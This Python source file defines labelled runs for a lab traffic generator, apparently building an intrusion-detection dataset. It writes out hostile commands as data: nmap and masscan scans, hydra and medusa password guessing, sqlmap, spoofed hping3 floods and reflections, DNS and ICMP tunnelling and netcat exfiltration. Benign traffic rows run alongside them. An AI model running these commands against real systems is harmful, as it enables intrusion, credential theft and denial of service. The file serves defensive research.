"""What happens in the lab: one row a run. Attacks by real tools, and beside them much honest traffic.

A row: name, label ("benign" or a threat type), servers to start, shell lines for the client's end, seconds. `{s}` is the server's
address, `{net}` the wire's first three octets, `{words}` a word list, `{paths}` a path list, `{ssh}` an ssh line, `{dir}` a folder of the
run's own. Lines of one row run one after the other, those that begin with "&" beside the next ones. Addresses of the client
from .80 on are honest neighbours, also in attack rows.
"""
from dataclasses import dataclass, field


@dataclass
class Run:
    name: str
    label: str
    servers: list
    lines: list
    seconds: int = 25
    shape: str = ""
    ttl: int = 0
    tool: str = ""
    extra: dict = field(default_factory=dict)


WEB_NOISE = "&for i in $(seq 60); do curl -s -m 5 --interface {net}.8$((i%8)) -o /dev/null http://{s}/page.html; sleep 0.2; done"

SHAPES = ["", "3 1 0", "20 5 0.003", "8 1 0"]  # delay one way and jitter in ms, loss


def scans():
    ways = {
        "syn": "-sS -p 1-400", "connect": "-sT -p 1-300", "fin": "-sF -p 1-150", "xmas": "-sX -p 1-150", "null": "-sN -p 1-150",
        "ack": "-sA -p 1-150", "udp": "-sU -p 1-60 --max-retries 1 --min-rate 30", "version": "-sV -p 20-100 --version-light",
        "slow": "-sS -p 1-60 --scan-delay 250ms", "fast": "-sS -T5 -p 1-3000", "sparse": "-sT -F -T3", "window": "-sW -p 1-200",
        "many": "-sS -p 22,80,443 {net}.1-55", "ping": "-sn -PE --disable-arp-ping {net}.1-55", "arp": "-sn -PR {net}.1-55", "tcpping": "-sn -PS443 --disable-arp-ping {net}.1-55",
        "os": "-O -p 1-120", "top": "--top-ports 200 -sS -T4", "frag": "-sS -f -p 1-100", "decoys": "-sS -p 1-100 -D {net}.61,{net}.62,ME",
        "six": "-6 -sS -p 1-200 fd66::1", "crawl": "-sS -p 20-50 --scan-delay 700ms --max-retries 0", "protocols": "-sO -p 1-60 --max-retries 1 --min-rate 20",
    }
    for n, (way, arguments) in enumerate(ways.items()):
        target = "" if "fd66" in arguments or "{net}" in arguments and "-D" not in arguments else " {s}"
        yield Run(f"nmap-{way}", "port_scan", ["nginx", "sshd"], [WEB_NOISE, f"nmap -n -Pn {arguments}{target}" if way not in ("ping", "arp", "tcpping")
                  else f"nmap -n {arguments}{target}"], 30, SHAPES[n % 4], (0, 128, 255)[n % 3], "nmap")
    yield Run("masscan-wide", "port_scan", ["nginx"], ["masscan --rate 300 -p 1-2000 {s} --wait 2 -e wire --router-mac $(ip -n {server} -br link show wire | awk '{{print $3}}')"], 20, tool="masscan")
    yield Run("masscan-net", "port_scan", ["nginx"], ["masscan --rate 100 -p 80,445,3389 {net}.1-{net}.55 --wait 2 -e wire --router-mac $(ip -n {server} -br link show wire | awk '{{print $3}}')"], 20, tool="masscan")
    yield Run("hping-scan", "port_scan", [], ["hping3 --scan 1-200 -S {s}"], 20, tool="hping3")
    yield Run("bash-scan", "port_scan", ["sshd"], ["for p in $(seq 1 250); do timeout 0.2 bash -c \"exec 3<>/dev/tcp/{s}/$p\"; done"], 20, tool="bash")
    yield Run("nc-scan", "port_scan", ["nginx"], ["nc -z -w1 -v {s} 70-180"], 20, tool="nc")


GUESSED = {"ssh": ["sshd"], "ftp": ["vsftpd"], "redis": ["redis sesame"], "snmp": ["snmpd"], "telnet": ["endpoints login:23"],
           "db": ["endpoints database:3306"], "pop": ["endpoints pop:110"]}


def guessing():
    for n, (tool, line) in enumerate({
        "hydra-ssh": "hydra -t 4 -l root -P {words} ssh://{s}", "hydra-ftp": "hydra -t 16 -l anna -P {words} ftp://{s}",
        "hydra-telnet": "hydra -t 4 -l admin -P {words} telnet://{s}", "medusa-ssh": "medusa -h {s} -u backup -P {words} -M ssh -t 3",
        "medusa-ftp": "medusa -h {s} -u anna -P {words} -M ftp -t 4", "ncrack-ssh": "ncrack -T4 --user root -P {words} {s}:22",
        "ncrack-ftp": "ncrack -T3 --user anna -P {words} {s}:21", "hydra-form": "hydra -t 6 -l anna -P {words} {s} http-post-form '/app/login:user=^USER^&password=^PASS^:Login failed'",
        "slow-ssh": "for i in $(seq 14); do sshpass -p x$i ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 root@{s} true; sleep 1; done",
        "hydra-redis": "hydra -t 6 -P {words} redis://{s}", "hydra-snmp": "hydra -t 8 -P {words} snmp://{s}", "patator-like-db": "for i in $(seq 80); do (echo user$i; sleep 0.15) | nc -q 0 -w 1 {s} 3306 >/dev/null; done",
        "hydra-pop": "hydra -t 8 -l anna -P {words} pop3://{s}",
    }.items()):
        yield Run(tool, "brute_force", ["nginx", *GUESSED.get(tool.rsplit("-", 1)[1], [])], [WEB_NOISE, line], 25, SHAPES[n % 4], (0, 128)[n % 2], tool.split("-")[0])


def web():
    for n, (name, line) in enumerate({
        "gobuster": "gobuster dir -q -t 8 -u http://{s}/ -w {paths}", "gobuster-slow": "gobuster dir -q -t 2 --delay 80ms -u http://{s}/ -w {paths}",
        "dirb": "dirb http://{s}/ {paths} -S -r", "sqlmap": "sqlmap --batch --level 2 --flush-session -u 'http://{s}/app/search?q=1'",
        "ffuf": "ffuf -s -t 10 -w {paths} -u http://{s}/FUZZ", "ffuf-words": "ffuf -s -t 4 -p 0.05 -w {words} -u 'http://{s}/app/search?q=FUZZ'",
        "gobuster-tls": "gobuster dir -q -k -t 6 -u https://{s}/ -w {paths}",
        "walk-tls": "for p in $(head -150 {paths}); do curl -sk -m 3 -o /dev/null \"https://{s}/$p.php?id=1%27%20OR%20$RANDOM\"; done",
        "walk": "for p in $(head -300 {paths}); do curl -s -m 3 -o /dev/null \"http://{s}/$p.php?id=1%27%20OR%20$RANDOM\"; done",
    }.items()):
        yield Run(name, "web_attack", ["nginx tls"], [WEB_NOISE, line], 25, SHAPES[n % 4], 0, name.split("-")[0])


def floods():
    quick = "-i u2000"  # 500 a second, bounded by the count
    for n, (name, label, line) in enumerate([
        ("syn-flood", "ddos", f"hping3 -S -p 80 {quick} -c 6000 {{s}}"), ("syn-spoofed", "ddos", f"hping3 -S -p 443 --rand-source {quick} -c 6000 {{s}}"),
        ("udp-flood", "udp_flood", f"hping3 --udp -p 9999 -d 400 {quick} -c 6000 {{s}}"), ("udp-spoofed", "udp_flood", f"hping3 --udp -p 53 -d 60 --rand-source {quick} -c 6000 {{s}}"),
        ("icmp-flood", "ddos", f"hping3 --icmp -d 200 {quick} -c 6000 {{s}}"), ("ack-flood", "ddos", f"hping3 -A -p 80 {quick} -c 6000 {{s}}"),
        ("rst-spoofed", "ddos", f"hping3 -R -p 80 --rand-source {quick} -c 6000 {{s}}"), ("udp-randport", "udp_flood", f"hping3 --udp -p ++1 -d 900 {quick} -c 5000 {{s}}"),
        ("slowloris", "ddos", "slowhttptest -H -c 250 -i 4 -r 60 -l 18 -u http://{s}/"), ("slowbody", "ddos", "slowhttptest -B -c 250 -i 4 -r 60 -l 18 -u http://{s}/app/login"),
        ("slowread", "ddos", "slowhttptest -X -c 200 -r 60 -l 18 -w 10 -y 20 -n 3 -z 32 -u http://{s}/photo.jpg"),
        ("http-flood", "ddos", "ab -q -n 8000 -c 40 http://{s}/small.json"), ("http-flood-new", "ddos", "ab -q -n 6000 -c 60 -H 'Connection: close' 'http://{s}/app/search?q=1'"),
        ("dns-amp", "ddos", "hping3 --udp -p 53 -s 53 -k -d 30 -i u3000 -c 3000 -a {net}.61 {s}"), ("ntp-amp", "ddos", "hping3 --udp -p 123 -d 8 -i u3000 -c 3000 -a {net}.62 {s}"),
        ("dns-reflected", "ddos", f"hping3 --udp -s 53 -k -p 33000 -d 1100 --rand-source {quick} -c 4000 {{s}}"),
        ("ntp-reflected", "ddos", f"hping3 --udp -s 123 -k -p 80 -d 440 --rand-source {quick} -c 4000 {{s}}"),
        ("ssdp-reflected", "ddos", f"hping3 --udp -s 1900 -k -p 40100 -d 300 --rand-source {quick} -c 4000 {{s}}"),
        ("icmp-spoofed", "ddos", f"hping3 --icmp -d 60 --rand-source {quick} -c 5000 {{s}}"),
        ("udp-spoofed-closed", "udp_flood", f"hping3 --udp -p 9998 -d 500 --rand-source {quick} -c 5000 {{s}}"),
        ("udp-one-flow", "udp_flood", "hping3 --udp -s 5000 -k -p 9999 -d 1200 -i u300 -c 12000 {s}"),
        ("syn-fast", "ddos", "hping3 -S -p 8080 -i u400 -c 9000 {s}"), ("syn-ports", "ddos", f"hping3 -S -p 443 --rand-source -d 120 {quick} -c 5000 {{s}}"),
        ("ssdp-amp", "ddos", "hping3 --udp -p 1900 -d 90 -i u3000 -c 3000 -a {net}.63 {s}"),
    ]):
        yield Run(name, label, ["nginx", "endpoints ntp:123 ssdp:1900 dnsbig:53 quiet:9999"], [WEB_NOISE, line], 25, SHAPES[(0, 1, 3)[n % 3]], 0, line.split()[0])


def leaving():
    yield Run("iodine", "data_exfiltration", ["endpoints sink:7000"], ["&iodine -f -P lab -r -m 200 {s} t.lab.test", "sleep 4; head -c 60000 /dev/urandom | nc -w 3 10.99.9.1 7000"], 20, "", 0, "iodine",
              {"server": ["iodined", "-f", "-P", "lab", "-c", "10.99.9.1", "t.lab.test"]})
    yield Run("ptunnel", "data_exfiltration", ["endpoints sink:8443"], ["&ptunnel -p {s} -lp 8000 -da {s} -dp 8443", "sleep 2; head -c 300000 /dev/urandom | nc -w 4 127.0.0.1 8000"], 18, "3 1 0", 0, "ptunnel",
              {"server": ["ptunnel"]})
    yield Run("dns-names", "data_exfiltration", ["dns"], ["for i in $(seq 220); do dig +short +tries=1 +time=1 @{s} $(head -c 30 /dev/urandom | xxd -p | head -c 58).$i.lab.test >/dev/null; done"], 25, "", 0, "dig")
    yield Run("dns-txt", "data_exfiltration", ["dns"], ["for i in $(seq 150); do dig +short +tries=1 +time=1 @{s} TXT $(head -c 24 /dev/urandom | xxd -p | head -c 45).x.lab.test >/dev/null; done"], 25, "3 0 0", 0, "dig")
    yield Run("icmp-data", "data_exfiltration", [], ["for i in $(seq 200); do ping -c1 -W1 -q -s $((200 + RANDOM % 1100)) {s}; done"], 25, "3 1 0", 0, "ping")
    yield Run("upload-big", "data_exfiltration", ["nginx"], ["head -c 60000000 /dev/urandom | curl -s -m 20 -T - http://{s}/upload/x"], 25, "", 0, "curl")
    yield Run("upload-odd", "data_exfiltration", ["endpoints sink:8443"], ["head -c 40000000 /dev/urandom | nc -w 2 {s} 8443"], 20, "", 0, "nc")
    yield Run("beacon", "malware", ["endpoints beacon:4444"], ["for i in $(seq 40); do echo id-$i-ping | nc -w 1 -q 0 {s} 4444 >/dev/null; sleep 0.5; done"], 28, "5 1 0", 0, "nc")
    yield Run("dga", "malware", ["dns"], ["for i in $(seq 160); do dig +short +tries=1 +time=1 @{s} $(head -c 40 /dev/urandom | tr -dc a-z | head -c 14).test >/dev/null; sleep 0.05; done"], 25, "", 0, "dig")
    yield Run("dead-c2", "malware", [], ["for i in $(seq 60); do for p in 447 8082 4443; do timeout 0.3 bash -c \"exec 3<>/dev/tcp/{s}/$p\"; done; sleep 0.3; done"], 28, "", 0, "bash")


def honest():
    rows = {
        "browse": (["nginx"], ["for i in $(seq 50); do for f in index.html page.html photo.jpg small.json; do curl -s -m 5 --interface {net}.$((60+i%30)) -o /dev/null http://{s}/$f & done; wait; sleep 0.$((RANDOM%6)); done"]),
        "keepalive": (["nginx"], ["for i in $(seq 40); do curl -s -m 9 -o /dev/null http://{s}/index.html -o /dev/null http://{s}/page.html -o /dev/null http://{s}/photo.jpg --interface {net}.$((70+i%20)); sleep 0.3; done"]),
        "api": (["nginx"], ["ab -q -k -n 1500 -c 4 http://{s}/small.json", "for i in $(seq 120); do curl -s -m 3 -o /dev/null \"http://{s}/app/api?page=$i\"; done"]),
        "api-steady": (["nginx"], ["for i in $(seq 200); do curl -s -m 3 -o /dev/null http://{s}/app/api; sleep 0.1; done"]),
        "forms": (["nginx"], ["for i in $(seq 15); do curl -s -m 3 -o /dev/null http://{s}/app/login; curl -s -m 3 -o /dev/null -d 'user=anna&password=correct-horse' http://{s}/app/login --interface {net}.$((60+i)); sleep 1; done"]),
        "packages": (["nginx"], ["for i in $(seq 12); do wget -q -O /dev/null http://{s}/package.deb; done"]),
        "ssh-work": (["sshd"], ["for i in $(seq 8); do {ssh} 'ls /etc; sleep 1; cat /etc/services'; sleep 1; done"]),
        "ssh-long": (["sshd"], ["{ssh} 'for i in $(seq 40); do date; sleep 0.5; done'"]),
        "sftp": (["sshd"], ["head -c 20000000 /dev/urandom > {dir}/big; cat {dir}/big | {ssh} 'cat >/dev/null'; {ssh} 'head -c 15000000 /dev/urandom' >/dev/null"]),
        "rsync": (["rsyncd"], ["for i in 1 2 3; do rsync -a rsync://{s}/data/ {dir}/copy$i/; sleep 2; done", "rsync -a {dir}/copy1/ rsync://{s}/data/back/"]),
        "ftp": (["vsftpd"], ["for i in $(seq 12); do curl -s -m 5 -o /dev/null ftp://{s}/file.bin; sleep 1; done"]),
        "dns": (["dns"], ["for i in $(seq 250); do dig +short +tries=1 +time=1 -b {net}.$((60+i%30)) @{s} www$i.lab.test >/dev/null; done"]),
        "dns-mixed": (["dns"], ["for i in $(seq 100); do dig +short @{s} host$i.lab.test >/dev/null; dig +short @{s} AAAA host$i.lab.test >/dev/null; [ $((i%9)) = 0 ] && dig +short @{s} typo$i.lab.test MX >/dev/null; sleep 0.1; done"]),
        "redis": (["redis"], ["redis-benchmark -q -h {s} -n 4000 -c 10 -t set,get", "for i in $(seq 60); do redis-cli -h {s} set k$i v >/dev/null; sleep 0.1; done"]),
        "database-tests": (["endpoints database:3306 database:5432"], ["for i in $(seq 8); do for j in 1 2 3 4; do (echo login; sleep 0.1; echo query$j; sleep 0.1) | nc -q 1 -w 2 {s} 5432 >/dev/null & done; wait; sleep 2; done"]),
        "database-pool": (["endpoints database:3306"], ["for c in 1 2 3 4 5 6; do (for i in $(seq 60); do echo select $i; sleep 0.3; done) | nc -q 1 {s} 3306 >/dev/null & done; wait"]),
        "mail": (["endpoints mail:25"], ["for i in $(seq 12); do (printf 'EHLO a\\r\\nMAIL FROM:<a@lab.test>\\r\\nRCPT TO:<b@lab.test>\\r\\nDATA\\r\\n'; sleep 0.2; head -c $((RANDOM)) /dev/zero | tr '\\0' 'x' | fold; printf '\\r\\n.\\r\\nQUIT\\r\\n') | nc -q 1 -w 3 {s} 25 >/dev/null; sleep 1; done"]),
        "mqtt": (["mqtt"], ["&timeout 20 mosquitto_sub -h {s} -t lab/#", "for i in $(seq 100); do mosquitto_pub -h {s} -t lab/$((i%7)) -m value$i; sleep 0.15; done"]),
        "ntp": (["endpoints ntp:123"], ["for i in $(seq 60); do (head -c 48 /dev/zero | nc -u -w 1 -q 1 -s {net}.$((60+i%30)) {s} 123 >/dev/null) & sleep 0.3; done; wait"]),
        "ping": ([], ["ping -q -c 60 -i 0.3 {s}"]),
        "traceroute": ([], ["for i in $(seq 5); do traceroute -n -q 3 -w 1 -m 6 {s}; traceroute -n -T -p 443 -w 1 -m 4 {s}; sleep 2; done"]),
        "voice": (["endpoints echo:16384"], ["&iperf3 -s -1 -p 5999", "(for i in $(seq 900); do head -c 160 /dev/zero; sleep 0.02; done) | nc -u -q 1 -w 2 {s} 16384 >/dev/null"]),
        "video": (["endpoints stream:8554"], ["(echo play; sleep 14) | nc {s} 8554 >/dev/null"]),
        "bulk-tcp": ([], ["iperf3 -c {s} -t 5 -b 60M", "iperf3 -c {s} -t 5 -R -b 60M"]),
        "bulk-udp": ([], ["iperf3 -c {s} -u -t 8 -b 8M -l 1200"]),
        "poll": (["nginx", "sshd", "redis"], ["for i in $(seq 12); do curl -s -m 2 -o /dev/null http://{s}/; nc -z -w1 {s} 22; nc -z -w1 {s} 6379; ping -c1 -q {s}; snmpget -v2c -c public -t 0.3 -r 0 {s} 1.3.6.1.2.1.1.3.0; sleep 1.5; done"]),
        "cloud-away": ([], ["for i in $(seq 60); do curl -s -m 1 -o /dev/null https://{s}/; sleep 0.$((RANDOM%5)); done"]),
        "cloud-away-many": ([], ["for d in $(seq 8); do (for i in $(seq 12); do curl -s -m 1 --interface {net}.$((80+d)) -o /dev/null https://{s}/; sleep $((1+d%3)); done) & done; wait"]),
        "printer": (["endpoints sink:9100 sink:631"], ["for i in 1 2 3; do head -c 4000000 /dev/urandom | nc -q 1 -w 3 {s} 9100; sleep 3; done"]),
        "backup": (["sshd"], ["head -c 30000000 /dev/urandom | {ssh} 'cat > /dev/null'"]),
        "peers": (["endpoints echo:6881 echo:6882 echo:6883 sink:6884"], ["for i in $(seq 80); do echo ping | nc -u -w 1 -q 0 -s {net}.61 -p $((20000+i)) {net}.$((1+i%11)) $((6881+i%4)) >/dev/null; sleep 0.2; done"]),
        "speed-test": (["nginx"], ["for n in 1 2 3; do for i in 1 2 3 4 5 6; do curl -s -m 8 -o /dev/null http://{s}/package.deb & done; wait; head -c 5000000 /dev/urandom | curl -s -m 8 -o /dev/null -T - http://{s}/upload/y; done"]),
        "health-checks": (["nginx"], ["for i in $(seq 150); do curl -s -m 1 -o /dev/null http://{s}/small.json; sleep 0.12; done"]),
        "chat": (["endpoints database:5222"], ["(for i in $(seq 40); do echo message $i; sleep 0.4; done) | nc -q 1 {s} 5222 >/dev/null"]),
        "wrong-password": (["sshd"], ["for i in 1 2 3; do sshpass -p no$i ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{s} true; sleep 2; done; {ssh} 'date'"]),
        "syslog": (["endpoints quiet:514"], ["(for i in $(seq 150); do echo '<34>1 host app line'$i; sleep 0.05; done) | nc -u -q 0 {s} 514", "for i in $(seq 60); do echo '<34>1 host cron line'$i | nc -u -w 1 -q 0 {s} 514; sleep 0.1; done"]),
        "browse-tls": (["nginx tls"], ["for i in $(seq 40); do for f in index.html page.html photo.jpg small.json; do curl -sk -m 5 --interface {net}.$((60+i%30)) -o /dev/null https://{s}/$f & done; wait; sleep 0.$((RANDOM%6)); done"]),
        "browse-six": (["nginx tls"], ["for i in $(seq 50); do curl -s -m 5 -o /dev/null http://[fd66::1]/index.html -o /dev/null http://[fd66::1]/photo.jpg; sleep 0.$((RANDOM%6)); done"]),
        "api-tls": (["nginx tls"], ["ab -q -k -n 800 -c 3 https://{s}/small.json", "for i in $(seq 150); do curl -sk -m 3 -o /dev/null \"https://{s}/app/api?page=$i\"; sleep 0.03; done"]),
        "crawl": (["nginx"], ["for i in $(seq 3); do wget -q -r -l 2 -P {dir}/copy$i http://{s}/; for f in page.html photo.jpg small.json robots.txt favicon.ico; do wget -q -O /dev/null http://{s}/$f; sleep 0.3; done; done"]),
        "missing-pages": (["nginx"], ["for i in $(seq 40); do curl -s -m 3 -o /dev/null http://{s}/index.html -o /dev/null http://{s}/old/picture$((i%5)).png -o /dev/null http://{s}/favicon.ico; sleep 0.4; done"]),
        "mail-poll": (["endpoints pop:110"], ["for i in $(seq 10); do for a in 60 81 82; do curl -s -m 3 --interface {net}.$a -u anna:correct-horse pop3://{s}/ >/dev/null; done; sleep 1.5; done"]),
        "snmp-poll": (["snmpd"], ["for i in $(seq 20); do snmpwalk -v2c -c monitoring -t 1 {s} 1.3.6.1.2.1.1 >/dev/null; snmpget -v2c -c monitoring {s} 1.3.6.1.2.1.1.3.0 >/dev/null; sleep 0.7; done"]),
        "resolver-away": ([], ["for i in $(seq 12); do dig +short +tries=2 +time=1 -b {net}.$((60+i%30)) @{s} www$i.lab.test >/dev/null & sleep 0.8; done; wait"]),
        "broker-away": ([], ["for i in $(seq 40); do timeout 1 mosquitto_pub -h {s} -t lab -m x; sleep 0.5; done"]),
        "git": (["git"], ["for i in $(seq 8); do git clone -q git://{s}/work {dir}/clone$i; git -C {dir}/clone$i fetch -q; sleep 1; done"]),
        "logon-burst": (["endpoints database:88 database:389 sink:445 database:135", "dns"], ["for u in 60 81 82 83 84; do (dig +short -b {net}.$u @{s} host$u.lab.test; for p in 88 88 389 135 389; do (echo ask$u; sleep 0.1) | nc -q 0 -w 1 -s {net}.$u {s} $p; done; head -c 30000 /dev/zero | nc -q 0 -w 1 -s {net}.$u {s} 445) >/dev/null & sleep 3; done; wait"]),
        "announcements": ([], ["for i in $(seq 30); do for a in 60 82 85; do echo announce$i | nc -u -w 1 -q 0 -s {net}.$a 224.0.0.251 5353; echo search$i | nc -u -w 1 -q 0 -s {net}.$a 239.255.255.250 1900; done; sleep 0.4; done"]),
        "dns-search": (["dns"], ["for i in $(seq 60); do for t in A AAAA; do dig +short +tries=1 +time=1 @{s} $t host$((i%40)).corp.lab.test.test >/dev/null; dig +short +tries=1 +time=1 @{s} $t host$((i%40)).lab.test >/dev/null; done; sleep 0.$((RANDOM%5)); done"]),
        "dns-lists": (["dns"], ["for i in $(seq 70); do for l in list zone; do dig +short +tries=1 +time=1 @{s} $((RANDOM%250)).$((RANDOM%250)).2.10.$l.lab.test >/dev/null; done; dig +short +tries=1 +time=1 @{s} -x 10.1.2.$i >/dev/null; sleep 0.1; done"]),
        "dns-types": (["dns"], ["for i in $(seq 50); do for t in A AAAA HTTPS TXT MX SRV; do dig +short +tries=1 +time=1 @{s} $t www$i.lab.test >/dev/null; done; sleep 0.1; done"]),
        "web-database": (["endpoints database:3306 database:5432"], ["for i in $(seq 50); do (echo login$((i%7)); sleep 0.05; echo select something from somewhere $((RANDOM%99)); sleep 0.05) | nc -q 0 -w 1 {s} $((i%2 ? 3306 : 5432)) >/dev/null; sleep 0.2; done"]),
        "database-long": (["endpoints database:1433 database:5432"], ["for i in $(seq 10); do (echo login; for q in $(seq 9); do echo insert row $RANDOM; sleep 0.1; done) | nc -q 0 -w 2 {s} 5432 >/dev/null & (echo login; sleep 0.5; echo go) | nc -q 0 -w 2 {s} 1433 >/dev/null; sleep 1; done; wait"]),
        "redis-jobs": (["redis"], ["for i in $(seq 70); do redis-cli -h {s} rpush jobs \"$(head -c $((RANDOM%400)) /dev/zero | tr '\\0' j)\" >/dev/null; sleep 0.2; done"]),
        "mqtt-calm": (["mqtt"], ["&timeout 25 mosquitto_sub -h {s} -t lab/#", "for i in $(seq 25); do mosquitto_pub -h {s} -t lab/$((i%7)) -m value$i; sleep 0.8; done"]),
        "ssh-jobs": (["sshd"], ["for i in $(seq 14); do {ssh} 'uptime; df' >/dev/null; sleep 0.8; done"]),
        "ssh-scripts": (["sshd"], ["for i in $(seq 5); do {ssh} 'cat /etc/services; sleep 2' >/dev/null & {ssh} 'tar c /etc/ssh 2>/dev/null' >/dev/null; sleep 2; done; wait"]),
        "retries": ([], ["for d in $(seq 6); do (for i in $(seq 8); do nc -z -w1 -s {net}.$((60+d*4)) {s} $((d%2 ? 5432 : 8883)); sleep $((1+i/3)); done) & done; wait"]),
        "check-ports": (["nginx", "sshd", "redis"], ["for i in $(seq 25); do nc -z -w1 {s} 80; nc -z -w1 {s} 22; nc -z -w1 {s} 6379; sleep 0.7; done"]),
        "mail-many": (["endpoints mail:25 mail:587"], ["for i in $(seq 16); do (printf 'EHLO b\\r\\nMAIL FROM:<c@lab.test>\\r\\nRCPT TO:<d@lab.test>\\r\\nDATA\\r\\n'; sleep 0.3; head -c $((RANDOM*3)) /dev/urandom | base64; printf '\\r\\n.\\r\\nQUIT\\r\\n') | nc -q 1 -w 2 -s {net}.$((60+i)) {s} $((i%2 ? 25 : 587)) >/dev/null; done"]),
        "polling-pages": (["nginx"], ["for i in $(seq 25); do for u in 60 82 84; do curl -s -m 3 --interface {net}.$u -o /dev/null \"http://{s}/app/api?since=$((i*7919))\" & done; sleep 0.8; done; wait"]),
        "ranges": (["nginx"], ["for i in $(seq 60); do curl -s -m 3 -r $((i*20000))-$((i*20000+15000)) -o /dev/null http://{s}/package.deb; sleep 0.1; done"]),
        "monitor-many": (["nginx", "sshd"], ["for r in 1 2 3; do for h in $(seq 11); do ping -c1 -W1 -q {net}.$h; nc -z -w1 {net}.$h 22; nc -z -w1 {net}.$h 80; nc -z -w1 {net}.$h 9100; done; sleep 4; done"]),
    }
    for n, (name, (servers, lines)) in enumerate(rows.items()):
        extra = {"server": ["iperf3", "-s"]} if name.startswith("bulk") else {}
        for k in range(2):
            yield Run(f"{name}-{k}", "benign", servers, lines, 28, SHAPES[(n + k) % 4], (0, 128)[k], "", extra)


def all_runs():
    for group in (scans, guessing, web, floods, leaving, honest):
        yield from group()
